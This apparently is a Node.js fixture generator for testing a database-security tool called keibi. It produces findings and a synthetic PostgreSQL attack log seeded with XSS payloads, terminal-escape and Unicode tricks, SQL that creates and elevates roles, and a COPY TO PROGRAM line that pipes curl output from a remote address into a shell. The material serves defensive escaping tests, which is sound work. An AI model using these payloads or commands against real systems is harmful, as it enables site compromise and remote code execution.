// Findings as `keibi scan --format jsonl` prints them, for `keibi findings import`:
//
//   node findings.mjs hostile        a finding per payload, the payload in every field
//   node findings.mjs hostile-log     a PostgreSQL log of an attack whose user names,
//                                    client name and statements are payloads
//   node findings.mjs fill N [SEED [START]]
//                                    N findings (ids from START on) with a realistic spread of types,
//                                    resources, accounts, addresses and users over 90
//                                    days (the 100,000-finding benchmark, the paging
//                                    of the filter test)
//
// Deterministic: the same arguments give the same file.

// ------------------------------------------------------------------ payloads

// Every payload names itself "kpwn" (an id, a class, a data attribute) so the DOM
// check can find an element one of them created; the script ones call alert(),
// which the browser test listens for.
export const PAYLOADS = [
  '<script>alert("kpwn-script")</script>',
  '"><svg id=kpwn-svg onload=alert("kpwn-svg")>',
  "'><img id=kpwn-img src=x onerror=alert('kpwn-img')>",
  'javascript:alert("kpwn-js")',
  '</textarea><script>alert("kpwn-textarea")</script><textarea>',
  '</title><script>alert("kpwn-title")</script>',
  '<a id=kpwn-a href="javascript:alert(\'kpwn-a\')">click</a>',
  '<iframe id=kpwn-iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(\'kpwn-meta\')">',
  '<base href="//evil.example/">',
  '<style>body{display:none}</style><link rel=stylesheet href=//evil.example/x.css>',
  '" style="position:fixed;inset:0" data-kpwn="1" x="',
  "' autofocus onfocus=alert('kpwn-focus') x='",
  '{{7*7}} ${alert("kpwn-tpl")} {% raw %} %s%n%x',
  '\u001b[31mRED\u001b[0m \u001b]8;;https://evil.example/\u0007click\u001b]8;;\u0007 \u001b[2J\u001b[H',
  'admin\u202egnp.exe\u202c and \u2066isolate\u2069 \u200f',
  'ad\u200bmin\u200d\ufeff\u2060 zero width',
  'nul\u0000byte \u0008backspace \r carriage',
  '<svg><animate id=kpwn-anim onbegin=alert("kpwn-anim") attributeName=x dur=1s>',
  '<math><mtext></table><img id=kpwn-math src=x onerror=alert(1)></mtext></math>',
  '<form id=kpwn-form action="javascript:alert(1)"><button>go</button></form>',
  '<!--', ']]>', '<![CDATA[', '&lt;script&gt;alert("kpwn-entity")&lt;/script&gt;',
];

const MIB = 'A'.repeat(1 << 20);

function hex(n, width = 32) {
  return n.toString(16).padStart(width, '0').slice(-width);
}

const T0 = Date.UTC(2026, 10, 26, 3, 0, 0);
const iso = (ms) => new Date(ms).toISOString().replace(/\.\d{3}Z$/, 'Z');

function base(i, over) {
  return {
    id: hex(0xbad0000 + i),
    type: 'CredentialAccess:RDS/BruteForce',
    severity: 5.0,
    severity_label: 'Medium',
    title: 'a title',
    description: 'a description',
    remediation: 'a remediation',
    mitre: ['T1110'],
    resource: { kind: 'db_instance', id: 'shop-postgres', engine: 'postgres' },
    actor: { ip: '203.0.113.66', user: 'postgres' },
    first_seen: iso(T0 + i * 60_000),
    last_seen: iso(T0 + i * 60_000 + 30_000),
    count: 1,
    evidence: [{ source: 'logs/postgresql.log', line: 1 }],
    detector: 'login_source',
    ...over,
  };
}

export function hostile() {
  const out = [];
  PAYLOADS.forEach((p, i) => {
    out.push(
      base(i, {
        // Types and severities are the detectors' own: a store only holds types
        // keibi knows, but an import may bring any string.
        type: i % 3 === 0 ? `CredentialAccess:RDS/BruteForce${p}` : 'CredentialAccess:RDS/BruteForce',
        severity: 9.0 - (i % 5),
        severity_label: ['Critical', 'High', 'High', 'Medium', 'Medium'][i % 5],
        title: `Payload ${i} in the title: ${p}`,
        description: `Payload ${i} in the description: ${p}. First: SELECT '${p}' FROM users;`,
        remediation: `Payload ${i} in the remediation: ${p}`,
        mitre: [`T1110${p}`],
        resource: {
          kind: 'db_instance',
          id: `shop-${i}${p}`,
          engine: i % 2 ? 'mysql' : 'postgres',
          account: `12345678901${i % 10}${p}`,
          region: `us-east-1${p}`,
        },
        actor: {
          ip: `203.0.113.${10 + i}`,
          user: i % 4 === 3 ? `arn:aws:iam::123456789012:user/${p}` : `u${i}${p}`,
          app: `psql${p}`,
          users: [`u${i}${p}`, `v${i}${p}`],
          ips: [`203.0.113.${10 + i}`, `2001:db8::${i.toString(16)}`],
        },
        evidence: [
          { source: `logs/${p}/postgresql.log`, line: i + 1 },
          { source: `cloudtrail/${p}.json.gz`, event_id: `evt-${p}` },
          { source: `rds:DescribeDBInstances ${p}`, observed: `PubliclyAccessible=true ${p}` },
        ],
        suggested_actions: [
          { action: 'block_address', address: `203.0.113.${10 + i}` },
          { action: 'lock_role', instance: `shop-${p}`, user: `u${p}` },
        ],
        detector: `login_source${p}`,
      }),
    );
  });
  // One megabyte in every text a page shows in full, and in the actor's names.
  out.push(
    base(PAYLOADS.length, {
      severity: 9.5,
      severity_label: 'Critical',
      title: `1 MiB title <script>alert("kpwn-big")</script> ${MIB}`,
      description: `1 MiB description ${MIB}`,
      remediation: `1 MiB remediation ${MIB}`,
      actor: { ip: '203.0.113.250', user: `big${MIB.slice(0, 256 << 10)}`, app: `app${MIB.slice(0, 256 << 10)}` },
      resource: { kind: 'db_instance', id: `big-${MIB.slice(0, 64 << 10)}`, engine: 'postgres' },
    }),
  );
  return out;
}

// A PostgreSQL log (RDS's log_line_prefix, pgaudit) in which an address fails
// to log in with payloads as user names, then logs in with an application name
// that is a payload and runs statements full of them: `keibi run --once` over it
// stores real findings, evidence and timeline entries carrying the payloads.
export function hostileLog() {
  const lines = [];
  const ip = '203.0.113.77';
  const t = (s) => new Date(Date.UTC(2026, 10, 26, 4, 0, 0) + s * 1000).toISOString().replace('T', ' ').replace(/\.\d{3}Z$/, ' UTC');
  // User names go in the prefix (user@db): keep the prefix's own separators out.
  const names = PAYLOADS.map((p) => p.replace(/[:@\n\r\u0000]/g, '_'));
  let s = 0;
  let pid = 20000;
  for (let i = 0; i < 60; i++) {
    const u = i < 30 ? names[i % names.length] : 'postgres';
    const port = 40000 + i;
    s += 5;
    lines.push(`${t(s)}:${ip}(${port}):[unknown]@[unknown]:[${pid}]:LOG:  connection received: host=${ip} port=${port}`);
    lines.push(`${t(s)}:${ip}(${port}):${u}@shop:[${pid}]:FATAL:  password authentication failed for user "${u}"`);
    lines.push(`${t(s)}:${ip}(${port}):${u}@shop:[${pid}]:DETAIL:  Connection matched pg_hba.conf line 13: "host all all 0.0.0.0/0 md5"`);
    pid++;
  }
  s += 5;
  const app = names[1];
  lines.push(`${t(s)}:${ip}(41000):[unknown]@[unknown]:[${pid}]:LOG:  connection received: host=${ip} port=41000`);
  lines.push(`${t(s)}:${ip}(41000):postgres@shop:[${pid}]:LOG:  connection authorized: user=postgres database=shop application_name=${app} SSL enabled (protocol=TLSv1.3, cipher=TLS_AES_256_GCM_SHA384, bits=256)`);
  const stmts = [
    ...PAYLOADS.map((p) => `SELECT '${p.replace(/'/g, "''")}' AS kpwn FROM pg_catalog.pg_roles;`),
    "CREATE ROLE \"<script>alert('kpwn-role')</script>\" WITH LOGIN PASSWORD 'x';",
    "GRANT rds_superuser TO \"\"\"><svg id=kpwn-grant onload=alert(1)>\";",
    "COPY (SELECT '') TO PROGRAM 'curl http://203.0.113.77/<script>alert(1)</script> | sh';",
    `SELECT '${'B'.repeat(200000)}';`,
  ];
  stmts.forEach((q, i) => {
    s += 2;
    const csv = `"${q.replace(/\r?\n/g, ' ').replace(/"/g, '""')}"`;
    const cls = q.startsWith('CREATE ROLE') ? 'ROLE,CREATE ROLE' : q.startsWith('GRANT') ? 'ROLE,GRANT' : 'READ,SELECT';
    lines.push(`${t(s)}:${ip}(41000):postgres@shop:[${pid}]:LOG:  AUDIT: SESSION,${i + 1},1,${cls},,,${csv},<not logged>`);
  });
  return lines.join('\n') + '\n';
}

// ------------------------------------------------------------------ the filler

// A small fast PRNG (mulberry32): the same seed, the same file.
function rng(seed) {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

// Types with their weight in a busy estate, their severity, a MITRE technique and
// what the actor is (a database login or an IAM principal).
const TYPES = [
  ['CredentialAccess:RDS/BruteForce', 30, 5.0, 'T1110', 'db'],
  ['CredentialAccess:RDS/MaliciousIPCaller.FailedLogin', 20, 5.0, 'T1110', 'db'],
  ['Discovery:RDS/SchemaEnumeration', 10, 2.5, 'T1082', 'db'],
  ['CredentialAccess:RDS/AnomalousBehavior.SuccessfulBruteForce', 3, 8.0, 'T1110.001', 'db'],
  ['CredentialAccess:RDS/TorIPCaller.SuccessfulLogin', 2, 8.0, 'T1078', 'db'],
  ['Persistence:RDS/AccountCreated', 6, 4.0, 'T1136', 'db'],
  ['PrivilegeEscalation:RDS/RoleElevated', 3, 8.0, 'T1098', 'db'],
  ['Stealth:RDS/AuditTampering', 2, 8.0, 'T1562.001', 'db'],
  ['Exfiltration:RDS/BulkExport', 2, 5.0, 'T1030', 'db'],
  ['Impact:RDS/MassDestruction', 1, 8.0, 'T1485', 'db'],
  ['Execution:RDS/ServerSideCommand', 1, 9.0, 'T1059', 'db'],
  ['InitialAccess:RDS/SQLInjection', 4, 7.0, 'T1190', 'db'],
  ['Discovery:IAMUser/AnomalousBehavior', 6, 5.0, 'T1087', 'aws'],
  ['Stealth:IAMUser/CloudTrailLoggingDisabled', 1, 8.0, 'T1562.008', 'aws'],
  ['Exfiltration:RDS/SnapshotShared', 1, 8.0, 'T1537', 'aws'],
  ['Policy:RDS/PubliclyAccessible', 8, 5.0, 'T1190', 'posture'],
];
const LABEL = (s) => (s >= 9 ? 'Critical' : s >= 7 ? 'High' : s >= 4 ? 'Medium' : 'Low');
const USERS = ['postgres', 'admin', 'app', 'storefront', 'etl', 'metabase', 'root', 'backup', 'reporting', 'migrator', 'support', 'test'];
const ACCOUNTS = ['123456789012', '210987654321', '555566667777'];
const REGIONS = ['ap-northeast-1', 'us-east-1', 'eu-west-1'];

export function fill(n, seed = 19, start = 0) {
  const r = rng(seed);
  const total = TYPES.reduce((a, t) => a + t[1], 0);
  const pick = () => {
    let x = r() * total;
    for (const t of TYPES) if ((x -= t[1]) < 0) return t;
    return TYPES[0];
  };
  // A long tail of addresses: a few attack many times, most once.
  const addr = () => {
    const k = Math.floor(Math.pow(r(), 3) * 5000);
    return `${[198, 203, 192, 45][k % 4]}.${[51, 0, 0, 155][k % 4]}.${[100, 113, 2, 12][k % 4] + ((k >> 8) % 20)}.${k % 250 + 1}`;
  };
  const end = Date.UTC(2026, 11, 6, 0, 0, 0);
  const out = [];
  for (let i = start; i < start + n; i++) {
    const [type, , sev, mitre, kind] = pick();
    const account = ACCOUNTS[Math.floor(r() * ACCOUNTS.length)];
    const region = REGIONS[Math.floor(r() * REGIONS.length)];
    const inst = `${r() < 0.6 ? 'shop' : 'crm'}-${r() < 0.5 ? 'postgres' : 'mysql'}-${String(Math.floor(r() * 40)).padStart(2, '0')}`;
    const ip = addr();
    const user = USERS[Math.floor(Math.pow(r(), 2) * USERS.length)];
    const first = end - Math.floor(r() * 90 * 86_400_000);
    const last = first + Math.floor(r() * 3_600_000);
    const count = 1 + Math.floor(Math.pow(r(), 4) * 500);
    const principal = `arn:aws:iam::${account}:user/${user}`;
    const actor = kind === 'aws' ? { ip, user: principal, app: 'aws-cli/2.17.0' } : kind === 'posture' ? {} : { ip, user, app: 'psql' };
    const file = `logs/${inst}/postgresql.log.${iso(first).slice(0, 13).replace('T', '-')}`;
    out.push({
      id: hex(0x100000 + i) + hex(Math.floor(r() * 2 ** 32), 8),
      type,
      severity: sev,
      severity_label: LABEL(sev),
      title: `${type.split('/')[1]} on ${inst} from ${ip} as ${user}`,
      description: `${ip} did what ${type} describes on ${inst} ${count} times between ${iso(first)} and ${iso(last)}, as ${user}. The detector weighed the events against the baseline of ${inst} and its users; this is the text a person reads first, about as long as the real ones.`,
      remediation: `Block ${ip} in the security group of ${inst} if it is not yours, change the password of ${user} and review what it did after ${iso(first)}.`,
      suggested_actions: kind === 'posture' ? [] : [{ action: 'block_address', address: ip }],
      mitre: [mitre],
      resource: kind === 'aws'
        ? { kind: 'aws_account', id: account, account, region }
        : { kind: 'db_instance', id: inst, engine: inst.includes('postgres') ? 'postgres' : 'mysql', account, region },
      actor,
      first_seen: iso(first),
      last_seen: iso(last),
      count,
      evidence: Array.from({ length: Math.min(count, 5) }, (_, k) => ({ source: file, line: 100 + k * 3 })),
      detector: 'bench-filler',
    });
  }
  return out;
}

if (import.meta.url === `file://${process.argv[1]}`) {
  const [what, n, seed, start] = process.argv.slice(2);
  if (what === 'hostile-log') {
    process.stdout.write(hostileLog());
    process.exit(0);
  }
  const list = what === 'hostile' ? hostile() : what === 'fill' ? fill(Number(n), Number(seed || 19), Number(start || 0)) : null;
  if (!list) {
    console.error('usage: node findings.mjs hostile | hostile-log | fill N [SEED [START]]');
    process.exit(2);
  }
  // Written in chunks: 100,000 findings are ~100 MB of JSON.
  let buf = '';
  for (const f of list) {
    buf += JSON.stringify(f) + '\n';
    if (buf.length > 1 << 20) {
      process.stdout.write(buf);
      buf = '';
    }
  }
  process.stdout.write(buf);
}
